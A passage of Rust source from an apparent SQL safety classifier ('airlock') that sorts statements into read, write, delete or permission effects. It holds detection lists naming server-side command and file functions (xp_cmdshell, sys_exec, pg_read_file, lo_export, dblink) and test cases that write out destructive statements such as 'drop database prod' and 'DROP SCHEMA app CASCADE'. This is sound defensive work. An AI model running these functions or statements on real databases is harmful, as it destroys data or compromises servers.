                }
            }
        }
        let Some(last) = parts.last() else {
            return;
        };
        let name = last.value.to_lowercase();
        let shown = object.to_string();
        if let Some((effect, why)) = side_effect_function(&name) {
            self.fact(effect, format!("{name}()"), format!("{shown}() {why}"));
            return;
        }
        // A built-in only when it is not in some other schema, and, if quoted, spelt
        // as the built-in is (`"LOWER"` is not `lower` in PostgreSQL).
        let schema_ok = match parts.as_slice() {
            [_] => true,
            [schema, _] => schema.value.eq_ignore_ascii_case("pg_catalog"),
            _ => false,
        };
        let spelling_ok = last.quote_style.is_none() || last.value == name;
        let builtin = pure_function(&name)
            || (self.dialect == Dialect::Sqlite && name.starts_with("pragma_"));
        if !(schema_ok && spelling_ok && builtin) {
            self.unknown(
                format!("{name}()"),
                format!("calls {shown}(), a function airlock does not know; it may change data"),
            );
        }
    }
}

fn is_cascade(behavior: Option<&ast::DropBehavior>) -> bool {
    matches!(behavior, Some(ast::DropBehavior::Cascade))
}

fn is_false_option(e: &ast::Expr) -> bool {
    let text = match e {
        ast::Expr::Value(v) => match &v.value {
            ast::Value::Boolean(b) => return !b,
            ast::Value::Number(n, _) => n.clone(),
            ast::Value::SingleQuotedString(s) => s.clone(),
            _ => return false,
        },
        ast::Expr::Identifier(i) => i.value.clone(),
        _ => return false,
    };
    matches!(text.to_lowercase().as_str(), "false" | "off" | "0" | "no")
}

fn privileges(p: &ast::Privileges) -> String {
    match p {
        ast::Privileges::All { .. } => "ALL privileges".to_string(),
        ast::Privileges::Actions(actions) => {
            let names: Vec<String> = actions.iter().map(|a| a.to_string()).collect();
            names.join(", ")
        }
    }
}

/// True when a WHERE condition holds for every row: `true`, `1`, `1=1`, `'a'='a'`,
/// `x = x`, `NOT false`, `… OR true`, `true AND 1=1`. (Tautologies are undecidable
/// in general; these are the ones written to get round a WHERE requirement.)
fn always_true(e: &ast::Expr) -> bool {
    use ast::BinaryOperator as B;
    match e {
        ast::Expr::Nested(inner) => always_true(inner),
        ast::Expr::Value(v) => match &v.value {
            ast::Value::Boolean(b) => *b,
            ast::Value::Number(n, _) => n.parse::<f64>().is_ok_and(|x| x != 0.0),
            _ => false,
        },
        ast::Expr::UnaryOp {
            op: ast::UnaryOperator::Not,
            expr,
        } => always_false(expr),
        ast::Expr::IsTrue(inner) | ast::Expr::IsNotFalse(inner) => always_true(inner),
        ast::Expr::IsNotNull(inner) => constant(inner).is_some(),
        ast::Expr::BinaryOp { left, op, right } => match op {
            B::Or => always_true(left) || always_true(right),
            B::And => always_true(left) && always_true(right),
            B::Eq | B::GtEq | B::LtEq | B::Spaceship if left == right => true,
            B::Eq | B::NotEq | B::Gt | B::Lt | B::GtEq | B::LtEq => {
                compare(left, right).is_some_and(|ord| holds(op, ord))
            }
            _ => false,
        },
        _ => false,
    }
}

fn always_false(e: &ast::Expr) -> bool {
    use ast::BinaryOperator as B;
    match e {
        ast::Expr::Nested(inner) => always_false(inner),
        ast::Expr::Value(v) => match &v.value {
            ast::Value::Boolean(b) => !*b,
            ast::Value::Number(n, _) => n.parse::<f64>().is_ok_and(|x| x == 0.0),
            _ => false,
        },
        ast::Expr::UnaryOp {
            op: ast::UnaryOperator::Not,
            expr,
        } => always_true(expr),
        ast::Expr::BinaryOp { left, op, right } => match op {
            B::Or => always_false(left) && always_false(right),
            B::And => always_false(left) || always_false(right),
            B::Eq | B::NotEq | B::Gt | B::Lt | B::GtEq | B::LtEq => {
                compare(left, right).is_some_and(|ord| !holds(op, ord))
            }
            _ => false,
        },
        _ => false,
    }
}

enum Constant {
    Number(f64),
    Text(String),
}

fn constant(e: &ast::Expr) -> Option<Constant> {
    match e {
        ast::Expr::Nested(inner) => constant(inner),
        ast::Expr::Value(v) => match &v.value {
            ast::Value::Number(n, _) => n.parse().ok().map(Constant::Number),
            ast::Value::SingleQuotedString(s) => Some(Constant::Text(s.clone())),
            ast::Value::Boolean(b) => Some(Constant::Number(if *b { 1.0 } else { 0.0 })),
            _ => None,
        },
        ast::Expr::UnaryOp {
            op: ast::UnaryOperator::Minus,
            expr,
        } => match constant(expr)? {
            Constant::Number(n) => Some(Constant::Number(-n)),
            Constant::Text(_) => None,
        },
        _ => None,
    }
}

fn compare(left: &ast::Expr, right: &ast::Expr) -> Option<std::cmp::Ordering> {
    match (constant(left)?, constant(right)?) {
        (Constant::Number(a), Constant::Number(b)) => a.partial_cmp(&b),
        (Constant::Text(a), Constant::Text(b)) => Some(a.cmp(&b)),
        _ => None,
    }
}

fn holds(op: &ast::BinaryOperator, ord: std::cmp::Ordering) -> bool {
    use ast::BinaryOperator as B;
    use std::cmp::Ordering::{Equal, Greater, Less};
    match op {
        B::Eq => ord == Equal,
        B::NotEq => ord != Equal,
        B::Gt => ord == Greater,
        B::Lt => ord == Less,
        B::GtEq => ord != Less,
        B::LtEq => ord != Greater,
        _ => false,
    }
}

/// Procedural languages that can reach the operating system (PostgreSQL marks them
/// untrusted; `c` and `internal` load native code).
fn untrusted_language(lang: &str) -> bool {
    matches!(
        lang,
        "c" | "internal"
            | "plpythonu"
            | "plpython2u"
            | "plpython3u"
            | "plperlu"
            | "pltclu"
            | "plsh"
            | "pljavau"
            | "plr"
            | "plluau"
            | "plv8u"
            | "plrustu"
    ) || lang.ends_with('u') && lang.starts_with("pl") && lang.len() > 4
}

/// Extensions that bring untrusted languages, file or program access, or
/// connections to other servers.
fn untrusted_extension(name: &str) -> bool {
    untrusted_language(name)
        || matches!(
            name,
            "adminpack"
                | "dblink"
                | "postgres_fdw"
                | "file_fdw"
                | "mysql_fdw"
                | "oracle_fdw"
                | "plsh"
        )
}

/// SQLite pragmas that only report.
fn read_only_pragma(name: &str) -> bool {
    matches!(
        name,
        "table_info"
            | "table_xinfo"
            | "table_list"
            | "index_list"
            | "index_info"
            | "index_xinfo"
            | "foreign_key_list"
            | "foreign_key_check"
            | "database_list"
            | "integrity_check"
            | "quick_check"
            | "compile_options"
            | "collation_list"
            | "function_list"
            | "module_list"
            | "pragma_list"
            | "user_version"
            | "schema_version"
            | "application_id"
            | "page_count"
            | "page_size"
            | "freelist_count"
            | "encoding"
            | "journal_mode"
            | "data_version"
            | "busy_timeout"
            | "foreign_keys"
            | "synchronous"
            | "cache_size"
            | "auto_vacuum"
            | "max_page_count"
    )
}

/// Built-in functions with side effects, and what they do.
fn side_effect_function(name: &str) -> Option<(Effect, &'static str)> {
    use Effect::{Delete, Unknown, Write};
    Some(match name {
        "pg_terminate_backend" => (Delete, "terminates another database session"),
        "pg_drop_replication_slot" => (Delete, "drops a replication slot"),
        "pg_replication_origin_drop" => (Delete, "drops a replication origin"),
        "pg_logical_slot_get_changes" | "pg_logical_slot_get_binary_changes" => {
            (Delete, "consumes changes from a replication slot")
        }
        "lo_unlink" => (Delete, "deletes a large object"),
        "pg_stat_reset"
        | "pg_stat_reset_shared"
        | "pg_stat_reset_single_table_counters"
        | "pg_stat_reset_single_function_counters"
        | "pg_stat_reset_slru"
        | "pg_stat_reset_replication_slot"
        | "pg_stat_reset_subscription_stats"
        | "pg_stat_statements_reset" => (Delete, "erases collected statistics"),
        "pg_cancel_backend" => (Write, "cancels another session's query"),
        "nextval" => (Write, "advances a sequence"),
        "setval" => (Write, "sets a sequence"),
        "pg_advisory_lock"
        | "pg_advisory_lock_shared"
        | "pg_advisory_xact_lock"
        | "pg_advisory_xact_lock_shared"
        | "pg_try_advisory_lock"
        | "pg_try_advisory_lock_shared"
        | "pg_try_advisory_xact_lock"
        | "pg_try_advisory_xact_lock_shared"
        | "pg_advisory_unlock"
        | "pg_advisory_unlock_shared"
        | "pg_advisory_unlock_all"
        | "get_lock"
        | "release_lock"
        | "release_all_locks" => (Write, "takes or releases a lock"),
        "pg_reload_conf" => (Write, "reloads the server configuration"),
        "pg_rotate_logfile" => (Write, "rotates the server log"),
        "pg_switch_wal" | "pg_switch_xlog" => (Write, "forces a write-ahead-log switch"),
        "pg_create_restore_point" => (Write, "creates a restore point"),
        "pg_create_physical_replication_slot"
        | "pg_create_logical_replication_slot"
        | "pg_copy_physical_replication_slot"
        | "pg_copy_logical_replication_slot"
        | "pg_replication_slot_advance"
        | "pg_replication_origin_create"
        | "pg_replication_origin_advance"
        | "pg_logical_emit_message" => (Write, "changes replication state"),
        "pg_backup_start" | "pg_backup_stop" | "pg_start_backup" | "pg_stop_backup" => {
            (Write, "starts or stops a backup")
        }
        "pg_wal_replay_pause" | "pg_wal_replay_resume" => (Write, "pauses or resumes replay"),
        "pg_notify" => (Write, "signals every listener on a channel"),
        "pg_log_backend_memory_contexts" => (Write, "writes to the server log"),
        "pg_import_system_collations" => (Write, "adds collations"),
        "lo_create" | "lo_creat" | "lo_put" | "lo_from_bytea" | "lo_truncate" | "lo_truncate64"
        | "lo_write" | "lowrite" | "lo_open" => (Write, "creates or changes a large object"),
        "pg_promote" => (Unknown, "promotes a standby server to primary"),
        "dblink" | "dblink_exec" | "dblink_open" | "dblink_fetch" | "dblink_send_query"
        | "dblink_get_result" | "dblink_connect" | "dblink_connect_u" => {
            (Unknown, "runs SQL given as text over a dblink connection")
        }
        "lo_import" | "lo_export" => (Unknown, "reads or writes a file on the database server"),
        "pg_read_file"
        | "pg_read_binary_file"
        | "pg_stat_file"
        | "pg_ls_dir"
        | "pg_ls_logdir"
        | "pg_ls_waldir"
        | "pg_ls_tmpdir"
        | "pg_ls_archive_statusdir"
        | "pg_ls_logicalsnapdir"
        | "pg_ls_logicalmapdir"
        | "pg_ls_replslotdir"
        | "pg_logdir_ls"
        | "load_file"
        | "readfile" => (Unknown, "reads files on the database server"),
        "pg_file_write" | "pg_file_rename" | "pg_file_unlink" | "pg_file_sync" | "writefile" => {
            (Unknown, "changes files on the database server")
        }
        "set_config" => (Unknown, "changes a session setting, possibly the role"),
        "query_to_xml"
        | "query_to_xml_and_xmlschema"
        | "query_to_xmlschema"
        | "cursor_to_xml"
        | "cursor_to_xmlschema" => (Unknown, "runs SQL given as text"),
        "sys_exec" | "sys_eval" | "xp_cmdshell" | "edit" => {
            (Unknown, "runs a program on the database server")
        }
        "load_extension" | "fts3_tokenizer" => (Unknown, "loads native code into the database"),
        _ => return None,
    })
}

/// Well-known side-effect-free built-ins (PostgreSQL, MySQL, SQLite, PostGIS's
/// `st_*`). Checked after [`side_effect_function`].
fn pure_function(name: &str) -> bool {
    const PURE_PREFIXES: [&str; 7] = [
        "json_",
        "jsonb_",
        "st_",
        "pg_get_",
        "pg_stat_get_",
        "to_reg",
        "regexp_",
    ];
    PURE_PREFIXES.iter().any(|p| name.starts_with(p))
        || (name.starts_with("has_") && name.ends_with("_privilege"))
        || name.ends_with("_is_visible")
        || matches!(
            name,
            // aggregates and window functions
            "count" | "sum" | "avg" | "min" | "max" | "array_agg" | "string_agg" | "json_agg"
            | "jsonb_agg" | "json_object_agg" | "jsonb_object_agg" | "bool_and" | "bool_or"
            | "every" | "bit_and" | "bit_or" | "bit_xor" | "stddev" | "stddev_pop"
            | "stddev_samp" | "variance" | "var_pop" | "var_samp" | "corr" | "covar_pop"
            | "covar_samp" | "regr_slope" | "regr_intercept" | "regr_count" | "regr_r2"
            | "regr_avgx" | "regr_avgy" | "regr_sxx" | "regr_syy" | "regr_sxy"
            | "percentile_cont" | "percentile_disc" | "mode" | "group_concat" | "any_value"
            | "median" | "listagg" | "xmlagg" | "range_agg" | "range_intersect_agg"
            | "json_arrayagg" | "json_objectagg" | "json_group_array" | "json_group_object"
            | "total" | "grouping" | "row_number" | "rank" | "dense_rank" | "percent_rank"
            | "cume_dist" | "ntile" | "lag" | "lead" | "first_value" | "last_value"
            | "nth_value"
            // conditionals and comparison
            | "coalesce" | "nullif" | "greatest" | "least" | "ifnull" | "isnull" | "nvl"
            | "nvl2" | "iif" | "if" | "num_nulls" | "num_nonnulls" | "likely" | "unlikely"
            | "likelihood"
            // strings
            | "lower" | "upper" | "initcap" | "length" | "char_length" | "character_length"
            | "octet_length" | "bit_length" | "substr" | "substring" | "substring_index"
            | "left" | "right" | "lpad" | "rpad" | "ltrim" | "rtrim" | "btrim" | "trim"
            | "replace" | "translate" | "reverse" | "repeat" | "concat" | "concat_ws"
            | "format" | "printf" | "position" | "strpos" | "instr" | "locate" | "split_part"
            | "regexp_replace" | "regexp_match" | "regexp_matches" | "regexp_split_to_array"
            | "regexp_split_to_table" | "regexp_substr" | "regexp_instr" | "regexp_like"
            | "regexp_count" | "ascii" | "chr" | "char" | "md5" | "sha1" | "sha2" | "sha224"
            | "sha256" | "sha384" | "sha512" | "encode" | "decode" | "to_hex" | "quote_ident"
            | "quote_literal" | "quote_nullable" | "starts_with" | "string_to_array"
            | "array_to_string" | "unistr" | "normalize" | "to_ascii" | "soundex"
            | "difference" | "mid" | "space" | "field" | "find_in_set" | "elt" | "make_set"
            | "export_set" | "hex" | "unhex" | "bin" | "oct" | "conv" | "ucase" | "lcase"
            | "insert" | "quote" | "unicode" | "zeroblob" | "randomblob" | "glob" | "like"
            | "strcmp" | "char_to_string" | "convert_from" | "convert_to" | "to_base64"
            | "from_base64" | "base64_encode" | "base64_decode" | "compress" | "uncompress"
            | "uncompressed_length" | "aes_encrypt" | "aes_decrypt" | "random_bytes"
            | "digest" | "hmac" | "crypt" | "gen_salt" | "gen_random_bytes" | "get_byte"
            | "get_bit" | "set_byte" | "set_bit" | "overlay" | "crc32" | "weight_string"
            | "bit_count" | "casefold" | "text" | "varchar" | "to_json" | "to_jsonb"
            // numbers
            | "abs" | "ceil" | "ceiling" | "floor" | "round" | "trunc" | "truncate" | "mod"
            | "power" | "pow" | "sqrt" | "cbrt" | "exp" | "ln" | "log" | "log10" | "log2"
            | "sign" | "pi" | "degrees" | "radians" | "sin" | "cos" | "tan" | "asin" | "acos"
            | "atan" | "atan2" | "atan2d" | "cot" | "sind" | "cosd" | "tand" | "sinh" | "cosh"
            | "tanh" | "asinh" | "acosh" | "atanh" | "random" | "rand" | "setseed" | "div"
            | "gcd" | "lcm" | "factorial" | "width_bucket" | "scale" | "trim_scale"
            | "min_scale" | "to_number" | "to_char" | "to_date" | "to_timestamp" | "format_bytes"
            | "int2" | "int4" | "int8" | "float4" | "float8" | "numeric" | "bool"
            // dates and times
            | "now" | "current_date" | "current_time" | "current_timestamp" | "localtime"
            | "localtimestamp" | "clock_timestamp" | "statement_timestamp"
            | "transaction_timestamp" | "timeofday" | "date_trunc" | "date_part" | "date_bin"
            | "extract" | "age" | "make_date" | "make_time" | "make_timestamp"
            | "make_timestamptz" | "make_interval" | "justify_days" | "justify_hours"
            | "justify_interval" | "isfinite" | "date" | "time" | "datetime" | "julianday"
            | "strftime" | "unixepoch" | "timediff" | "date_add" | "date_sub" | "adddate"
            | "subdate" | "addtime" | "subtime" | "datediff" | "date_format" | "str_to_date"
            | "from_unixtime" | "unix_timestamp" | "curdate" | "curtime" | "sysdate"
            | "utc_date" | "utc_time" | "utc_timestamp" | "year" | "month" | "day"
            | "dayofmonth" | "dayofweek" | "dayofyear" | "hour" | "minute" | "second"
            | "microsecond" | "week" | "weekday" | "weekofyear" | "yearweek" | "quarter"
            | "last_day" | "makedate" | "maketime" | "monthname" | "dayname" | "period_add"
            | "period_diff" | "timestamp" | "timestampadd" | "timestampdiff" | "time_format"
            | "time_to_sec" | "sec_to_time" | "to_days" | "to_seconds" | "from_days"
            | "convert_tz" | "timezone" | "getdate" | "dateadd" | "datename" | "datepart"
            | "interval" | "sleep" | "pg_sleep" | "pg_sleep_for" | "pg_sleep_until"
            | "benchmark"
            // JSON
            | "json_build_object" | "jsonb_build_object" | "json_build_array"
            | "jsonb_build_array" | "row_to_json" | "array_to_json" | "json_object"
            | "jsonb_object" | "json_array_length" | "jsonb_array_length"
            | "json_array_elements" | "jsonb_array_elements" | "json_array_elements_text"
            | "jsonb_array_elements_text" | "json_each" | "jsonb_each" | "json_each_text"
            | "jsonb_each_text" | "json_extract_path" | "jsonb_extract_path"
            | "json_extract_path_text" | "jsonb_extract_path_text" | "json_object_keys"
            | "jsonb_object_keys" | "json_populate_record" | "jsonb_populate_record"
            | "json_populate_recordset" | "jsonb_populate_recordset" | "json_to_record"
            | "jsonb_to_record" | "json_to_recordset" | "jsonb_to_recordset" | "json_typeof"
            | "jsonb_typeof" | "json_strip_nulls" | "jsonb_strip_nulls" | "jsonb_set"
            | "jsonb_set_lax" | "jsonb_insert" | "jsonb_pretty" | "jsonb_path_query"
            | "jsonb_path_query_array" | "jsonb_path_query_first" | "jsonb_path_exists"
            | "jsonb_path_match" | "json_extract" | "json_unquote" | "json_contains"
            | "json_contains_path" | "json_keys" | "json_length" | "json_valid" | "json_type"
            | "json_array" | "json_set" | "json_insert" | "json_replace" | "json_remove"
            | "json_merge_patch" | "json_merge_preserve" | "json_search" | "json_quote"
            | "json_pretty" | "json_tree" | "json_patch" | "json" | "jsonb" | "json_value"
            | "json_query" | "json_exists" | "json_array_insert" | "json_depth"
            | "json_overlaps" | "json_scalar" | "json_serialize"
            // arrays and sets
            | "array_length" | "array_lower" | "array_upper" | "cardinality" | "array_append"
            | "array_prepend" | "array_cat" | "array_remove" | "array_replace"
            | "array_position" | "array_positions" | "array_dims" | "array_ndims" | "unnest"
            | "generate_series" | "generate_subscripts" | "array_fill" | "trim_array"
            | "array_sample" | "array_shuffle" | "array" | "row" | "isempty" | "lower_inc"
            | "upper_inc" | "lower_inf" | "upper_inf" | "range_merge" | "int4range"
            | "int8range" | "numrange" | "tsrange" | "tstzrange" | "daterange"
            // text search
            | "to_tsvector" | "to_tsquery" | "plainto_tsquery" | "phraseto_tsquery"
            | "websearch_to_tsquery" | "ts_rank" | "ts_rank_cd" | "ts_headline" | "setweight"
            | "strip" | "numnode" | "querytree" | "tsvector_to_array" | "array_to_tsvector"
            // session and catalogue information
            | "version" | "current_user" | "session_user" | "user" | "current_role"
            | "current_schema" | "current_schemas" | "current_database" | "current_catalog"
            | "current_setting" | "inet_client_addr" | "inet_client_port" | "inet_server_addr"
            | "inet_server_port" | "pg_backend_pid" | "pg_postmaster_start_time"
            | "pg_conf_load_time" | "pg_is_in_recovery" | "pg_last_wal_receive_lsn"
            | "pg_last_wal_replay_lsn" | "pg_last_xact_replay_timestamp"
            | "pg_current_wal_lsn" | "pg_current_wal_insert_lsn" | "pg_current_wal_flush_lsn"
            | "pg_wal_lsn_diff" | "pg_walfile_name" | "pg_size_pretty" | "pg_size_bytes"
            | "pg_relation_size" | "pg_total_relation_size" | "pg_table_size"
            | "pg_indexes_size" | "pg_database_size" | "pg_tablespace_size"
            | "pg_column_size" | "pg_relation_filepath" | "pg_relation_filenode" | "pg_typeof"
            | "pg_get_viewdef" | "pg_get_functiondef" | "pg_get_function_arguments"
            | "pg_get_function_result" | "pg_get_function_identity_arguments"
            | "pg_get_indexdef" | "pg_get_constraintdef" | "pg_get_triggerdef"
            | "pg_get_ruledef" | "pg_get_statisticsobjdef" | "pg_get_expr"
            | "pg_get_userbyid" | "pg_get_serial_sequence" | "pg_get_keywords"
            | "pg_get_partkeydef" | "pg_table_is_visible" | "pg_function_is_visible"
            | "pg_type_is_visible" | "pg_index_column_has_property" | "format_type"
            | "obj_description" | "col_description" | "shobj_description"
            | "has_table_privilege" | "has_schema_privilege" | "has_database_privilege"
            | "has_column_privilege" | "has_any_column_privilege" | "has_function_privilege"
            | "has_sequence_privilege" | "has_tablespace_privilege" | "pg_has_role"
            | "to_regclass" | "to_regtype" | "to_regproc" | "to_regprocedure" | "to_regrole"
            | "to_regnamespace" | "pg_blocking_pids" | "pg_encoding_to_char"
            | "pg_client_encoding" | "txid_current" | "txid_current_if_assigned"
            | "pg_current_xact_id" | "pg_current_xact_id_if_assigned" | "pg_snapshot_xmin"
            | "pg_xact_commit_timestamp" | "pg_last_committed_xact" | "pg_jit_available"
            | "pg_stat_get_activity" | "pg_stat_get_backend_pid" | "pg_tablespace_location"
            | "pg_postmaster_pid" | "pg_trigger_depth" | "pg_listening_channels"
            | "pg_replication_origin_session_progress" | "pg_is_wal_replay_paused"
            | "currval" | "lastval" | "database" | "schema" | "connection_id"
            | "last_insert_id" | "found_rows" | "row_count" | "uuid" | "uuid_short"
            | "gen_random_uuid" | "uuid_generate_v4" | "uuid_generate_v1" | "sqlite_version"
            | "sqlite_source_id" | "changes" | "total_changes" | "last_insert_rowid"
            | "typeof" | "subtype" | "charset" | "collation" | "coercibility" | "inet_aton"
            | "inet_ntoa" | "inet6_aton" | "inet6_ntoa" | "is_ipv4" | "is_ipv6" | "host"
            | "netmask" | "network" | "broadcast" | "masklen" | "family" | "abbrev"
            | "lo_get" | "loread"
        )
}

#[cfg(test)]
mod tests {
    use super::*;
    use Effect::{Delete, Permissions, Read, Unknown, Write};
    use proptest::prelude::*;

    fn pg(sql: &str) -> Findings {
        classify(sql, Dialect::Postgres)
    }

    #[test]
    fn unparseable_last_statements_with_a_plain_shape() {
        assert_eq!(
            my("CREATE USER 'b'@'10.0.%' IDENTIFIED BY 'x';").effect(),
            Permissions
        );
        assert_eq!(my("DROP USER 'legacy'@'%';").effect(), Permissions);
        assert_eq!(
            my("SET PASSWORD FOR 'root'@'localhost' = 'toor';").effect(),
            Permissions
        );
        let lite = |q: &str| classify(q, Dialect::Sqlite).effect();
        assert_eq!(lite("PRAGMA table_info(users);"), Read);
        // Anything after the shape keeps it unknown: nothing may hide behind it.
        assert_eq!(lite("PRAGMA table_info(users) DROP TABLE users"), Unknown);
        assert_eq!(my("DROP USER 'a'@'%'; DROP TABLE t @").effect(), Unknown);
        assert_eq!(pg("VACUUM ANALYZE orders; DROP TABLE t").effect(), Delete);
    }

    fn my(sql: &str) -> Findings {
        classify(sql, Dialect::MySql)
    }

    /// sqlparser's recursive descent needs more than a test thread's 2 MiB in
    /// unoptimised builds once input nests ~20 levels; run such input on a big stack.
    fn on_big_stack<T: Send + 'static>(f: impl FnOnce() -> T + Send + 'static) -> T {
        std::thread::Builder::new()
            .stack_size(64 << 20)
            .spawn(f)
            .expect("spawn")
            .join()
            .expect("join")
    }

    fn target(kind: &str, name: &str, namespace: Option<&str>) -> Target {
        Target {
            kind: kind.to_string(),
            name: name.to_string(),
            namespace: namespace.map(str::to_string),
            ..Target::default()
        }
    }

    // ----- the effect table -----------------------------------------------------------

    #[rustfmt::skip]
    const CASES: &[(Dialect, &str, Effect, bool)] = &[
        // queries read
        (Dialect::Postgres, "SELECT * FROM orders", Read, false),
        (Dialect::Postgres, "select id from Orders where note = 'delete everything; drop table x'", Read, false),
        (Dialect::Postgres, "SELECT /* DELETE FROM t */ 1 -- DROP TABLE t", Read, false),
        (Dialect::Postgres, "SeLeCt CoUnT(*), NOW(), lower(name) FrOm t GROUP BY 2", Read, false),
        (Dialect::Postgres, "WITH x AS (SELECT 1) SELECT * FROM x", Read, false),
        (Dialect::Postgres, "SELECT a FROM t UNION SELECT b FROM u ORDER BY 1 LIMIT 5", Read, false),
        (Dialect::Postgres, "SELECT * FROM generate_series(1, 10) g JOIN t ON t.id = g", Read, false),
        (Dialect::Postgres, "SELECT pg_size_pretty(pg_total_relation_size('t'))", Read, false),
        (Dialect::Postgres, "SELECT pg_catalog.lower('A')", Read, false),
        (Dialect::Postgres, "SELECT * FROM t WHERE id = $1", Read, false),
        (Dialect::Postgres, "VALUES (1, 2), (3, 4)", Read, false),
        (Dialect::Postgres, "EXPLAIN DELETE FROM t", Read, false),
        (Dialect::Postgres, "EXPLAIN (ANALYZE false) DELETE FROM t", Read, false),
        (Dialect::Postgres, "BEGIN; SELECT 1; COMMIT", Read, false),
        (Dialect::Postgres, "START TRANSACTION; ROLLBACK", Read, false),
        (Dialect::Postgres, "SET search_path TO app, public", Read, false),
        (Dialect::Postgres, "SET statement_timeout = 0", Read, false),
        (Dialect::Postgres, "SHOW search_path", Read, false),
        (Dialect::Postgres, "COPY t TO STDOUT", Read, false),
        (Dialect::Postgres, "RESET ROLE", Read, false),
        (Dialect::MySql, "SHOW TABLES", Read, false),
        (Dialect::MySql, "USE shop", Read, false),
        (Dialect::MySql, "DESCRIBE orders", Read, false),
        (Dialect::MySql, "SELECT a INTO @v FROM t", Read, false),
        (Dialect::Sqlite, "SELECT json_extract(doc, '$.a') FROM t", Read, false),
        (Dialect::Generic, "SELECT 1", Read, false),
        // writes
        (Dialect::Postgres, "INSERT INTO t (a) VALUES (1)", Write, false),
        (Dialect::Postgres, "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 2", Write, false),
        (Dialect::Postgres, "INSERT INTO archive SELECT * FROM orders WHERE created < now()", Write, false),
        (Dialect::Postgres, "UPDATE t SET a = 1 WHERE id = 2", Write, false),
        (Dialect::Postgres, "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a WHEN NOT MATCHED THEN INSERT (id) VALUES (s.id)", Write, false),
        (Dialect::Postgres, "CREATE TABLE t (id int primary key)", Write, false),
        (Dialect::Postgres, "CREATE TABLE t2 AS SELECT * FROM t", Write, false),
        (Dialect::Postgres, "CREATE INDEX i ON t (a)", Write, false),
        (Dialect::Postgres, "CREATE VIEW v AS SELECT * FROM t", Write, false),
        (Dialect::Postgres, "ALTER TABLE t ADD COLUMN c int", Write, false),
        (Dialect::Postgres, "SELECT * FROM t FOR UPDATE", Write, false),
        (Dialect::Postgres, "SELECT * FROM t WHERE id = 1 FOR SHARE SKIP LOCKED", Write, false),
        (Dialect::Postgres, "SELECT * INTO new_orders FROM orders", Write, false),
        (Dialect::Postgres, "VACUUM FULL t", Write, false),
        (Dialect::Postgres, "REINDEX TABLE t", Write, false),
        (Dialect::Postgres, "CLUSTER t USING t_pkey", Write, false),
        (Dialect::Postgres, "SELECT nextval('orders_id_seq')", Write, false),
        (Dialect::Postgres, "COPY t FROM STDIN", Write, false),
        (Dialect::Postgres, "LOCK TABLE t IN ACCESS EXCLUSIVE MODE", Write, false),
        (Dialect::Postgres, "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", Write, false),
        (Dialect::Postgres, "EXPLAIN (ANALYZE true, BUFFERS) UPDATE t SET a = 1 WHERE id = 2", Write, false),
        (Dialect::MySql, "REPLACE INTO t VALUES (1)", Write, false),
        (Dialect::MySql, "INSERT INTO t VALUES (1) ON DUPLICATE KEY UPDATE a = 1", Write, false),
        (Dialect::MySql, "SET GLOBAL max_connections = 10", Write, false),
        (Dialect::Sqlite, "INSERT OR REPLACE INTO t VALUES (1)", Write, false),
        // deletes
        (Dialect::Postgres, "DELETE FROM orders WHERE id = 1", Delete, false),
        (Dialect::Postgres, "DELETE FROM orders", Delete, true),
        (Dialect::Postgres, "DELETE FROM t USING u WHERE t.id = u.id", Delete, false),
        (Dialect::Postgres, "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", Delete, true),
        (Dialect::Postgres, "WITH d AS (DELETE FROM t WHERE id < 9 RETURNING *) INSERT INTO archive SELECT * FROM d", Delete, false),
        (Dialect::Postgres, "EXPLAIN ANALYZE DELETE FROM t WHERE id = 1", Delete, false),
        (Dialect::Postgres, "EXPLAIN (ANALYZE) DELETE FROM t", Delete, true),
        (Dialect::Postgres, "EXPLAIN (ANALYSE) DELETE FROM t", Delete, true),
        (Dialect::Postgres, "EXPLAIN (FORMAT JSON, ANALYZE on) DELETE FROM t WHERE id = 1", Delete, false),
        (Dialect::Postgres, "DROP TABLE t", Delete, true),
        (Dialect::Postgres, "DROP TABLE IF EXISTS t CASCADE", Delete, true),
        (Dialect::Postgres, "drop database prod", Delete, true),
        (Dialect::Postgres, "DROP SCHEMA app CASCADE", Delete, true),
        (Dialect::Postgres, "DROP VIEW v", Delete, false),
        (Dialect::Postgres, "DROP INDEX i", Delete, false),
        (Dialect::Postgres, "DROP FUNCTION f(int)", Delete, false),
        (Dialect::Postgres, "TRUNCATE orders", Delete, true),
        (Dialect::Postgres, "ALTER TABLE t DROP COLUMN c", Delete, true),
        (Dialect::Postgres, "ALTER TABLE t DROP CONSTRAINT t_fk", Delete, false),
        (Dialect::Postgres, "ALTER TABLE t ADD COLUMN x int, DROP COLUMN y", Delete, true),
        (Dialect::Postgres, "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'x'", Delete, false),
        (Dialect::Postgres, "SELECT pg_drop_replication_slot('s')", Delete, false),
        (Dialect::Postgres, "SELECT lo_unlink(1234)", Delete, false),
        (Dialect::Postgres, "SELECT id FROM t WHERE id IN (SELECT pg_terminate_backend(pid) FROM pg_stat_activity)", Delete, false),
        (Dialect::Postgres, "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", Delete, false),
        (Dialect::Postgres, "DROP OWNED BY bob", Delete, true),
        (Dialect::MySql, "DELETE t1 FROM t1 JOIN t2 ON t1.id = t2.id WHERE t2.x = 1", Delete, false),
        (Dialect::MySql, "KILL 123", Delete, false),
        (Dialect::Generic, "CREATE OR REPLACE TABLE t (a int)", Delete, false),
        (Dialect::Sqlite, "DELETE FROM t", Delete, true),
        // bulk through a WHERE that is always true
        (Dialect::Postgres, "DELETE FROM t WHERE true", Delete, true),
        (Dialect::Postgres, "DELETE FROM t WHERE 1=1", Delete, true),
        (Dialect::Postgres, "DELETE FROM t WHERE (1 = 1) OR id = 3", Delete, true),
        (Dialect::Postgres, "DELETE FROM t WHERE id = id", Delete, true),
        (Dialect::Postgres, "DELETE FROM t WHERE NOT false", Delete, true),
        (Dialect::Postgres, "DELETE FROM t WHERE 2 > 1 AND 'a' = 'a'", Delete, true),
        (Dialect::Postgres, "UPDATE t SET a = 1", Delete, true),
        (Dialect::Postgres, "UPDATE t SET a = 1 WHERE 1 = 1", Delete, true),
        (Dialect::MySql, "DELETE FROM t WHERE 1", Delete, true),
        // permissions
        (Dialect::Postgres, "GRANT SELECT ON orders TO analyst", Permissions, false),
